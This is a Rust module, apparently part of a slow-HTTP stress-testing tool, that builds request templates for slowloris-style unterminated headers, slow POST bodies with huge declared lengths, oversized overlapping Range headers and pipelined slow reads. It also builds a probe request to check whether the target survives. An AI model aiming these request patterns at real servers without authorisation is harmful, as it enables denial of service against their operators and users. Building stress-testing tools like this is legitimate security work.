//! Request template construction.
//!
//! Each run builds two byte templates up front: the attack request shared by
//! every pooled connection and the complete probe request. What the attack
//! template leaves unfinished, and what each connection trickles afterwards,
//! depends on the attack mode:
//!
//! ```text
//! Header   GET /             header block never terminated, fragments are
//!                            bogus "X-...: ..." header lines
//! Body     POST /            complete headers, huge declared Content-Length,
//!                            fragments are "&...=..." form fields
//! Range    HEAD /            complete request with one oversized Range header
//! SlowRead GET /             complete request, optionally pipelined
//! ```

use bytes::Bytes;
use treacle_common::{AttackMode, ProxyMode, TestConfig};

use crate::target::TargetUrl;
use crate::textgen::TextGenerator;

const REFERER: &str = "https://github.com/treacle-rs/treacle/";

/// First body bytes sent in Body mode; everything after arrives as
/// follow-up fragments.
const BODY_PREFIX: &str = "foo=bar";

/// Shape of one follow-up fragment: `prefix token separator token postfix`.
#[derive(Debug, Clone, Copy)]
pub struct FollowUpPattern {
    prefix: &'static str,
    separator: &'static str,
    postfix: &'static str,
}

impl FollowUpPattern {
    fn for_mode(mode: AttackMode) -> Option<Self> {
        match mode {
            AttackMode::Header => Some(FollowUpPattern {
                prefix: "X-",
                separator: ": ",
                postfix: "\r\n",
            }),
            AttackMode::Body => Some(FollowUpPattern {
                prefix: "&",
                separator: "=",
                postfix: "",
            }),
            AttackMode::Range | AttackMode::SlowRead => None,
        }
    }

    /// Renders one fragment with fresh random tokens.
    pub fn render(&self, gen: &mut TextGenerator, token_len: usize) -> String {
        let mut out = String::with_capacity(
            self.prefix.len() + self.separator.len() + self.postfix.len() + 2 * token_len,
        );
        out.push_str(self.prefix);
        out.push_str(&gen.token(token_len));
        out.push_str(self.separator);
        out.push_str(&gen.token(token_len));
        out.push_str(self.postfix);
        out
    }
}

/// The byte templates one run works from.
#[derive(Debug, Clone)]
pub struct RequestSet {
    pub attack: Bytes,
    pub probe: Bytes,
    pub follow_up: Option<FollowUpPattern>,
}

/// Builds the attack and probe templates for a run. The User-Agent is drawn
/// once and shared by both.
pub fn build(config: &TestConfig, target: &TargetUrl, gen: &mut TextGenerator) -> RequestSet {
    let verb = config.effective_verb();
    let user_agent = gen.user_agent();

    // Common header block through the Referer line, no terminator.
    let tail = common_tail(target, user_agent);
    let attack_uri = if config.proxy.mode == ProxyMode::Http {
        target.absolute()
    } else {
        target.path.clone()
    };
    let mut attack = format!("{verb} {attack_uri} HTTP/1.1\r\n{tail}");

    // The probe is always a finished GET of the same resource.
    let probe_uri = match config.proxy.mode {
        ProxyMode::Http | ProxyMode::Probe => target.absolute(),
        _ => target.path.clone(),
    };
    let probe = format!("GET {probe_uri} HTTP/1.1\r\n{tail}\r\n");

    match config.mode {
        AttackMode::Header => {}
        AttackMode::Body => {
            attack.push_str(&format!("Content-Length: {}\r\n", config.body.content_length));
            attack.push_str(&format!("Content-Type: {}\r\n", config.body.content_type));
            attack.push_str(&format!("Accept: {}\r\n", config.body.accept));
            attack.push_str("Connection: close\r\n\r\n");
            attack.push_str(BODY_PREFIX);
        }
        AttackMode::Range => {
            attack.push_str(&generate_range_header(
                config.range.start,
                1,
                config.range.limit,
            ));
        }
        AttackMode::SlowRead => {
            if config.slow_read.pipeline_factor > 1 {
                attack.push_str("Connection: Keep-Alive\r\n");
            }
            attack.push_str("\r\n");
            let one = attack.clone();
            for _ in 1..config.slow_read.pipeline_factor {
                attack.push_str(&one);
            }
        }
    }

    RequestSet {
        attack: Bytes::from(attack),
        probe: Bytes::from(probe),
        follow_up: FollowUpPattern::for_mode(config.mode),
    }
}

fn common_tail(target: &TargetUrl, user_agent: &str) -> String {
    format!(
        "Host: {}\r\nUser-Agent: {}\r\nReferer: {}\r\n",
        target.host_header(),
        user_agent,
        REFERER
    )
}

/// Builds the oversized Range header for Range mode.
///
/// Starts with an unbounded `0-` satisfier, then pairs `start-i` for `i`
/// stepping from `start` up to (excluding) `limit`, then the closing
/// `start-limit` pair:
///
/// ```
/// let h = treacle_engine::request::generate_range_header(5, 1, 10);
/// assert!(h.starts_with("Range: bytes=0-,5-5,5-6,5-7,5-8,5-9,5-10\r\n"));
/// ```
pub fn generate_range_header(start: usize, step: usize, limit: usize) -> String {
    let mut header = String::from("Range: bytes=0-,");
    let mut i = start;
    while i < limit {
        header.push_str(&format!("{start}-{i},"));
        i += step.max(1);
    }
    header.push_str(&format!("{start}-{limit}"));
    header.push_str("\r\nAccept-Encoding: gzip\r\nConnection: close\r\n\r\n");
    header
}
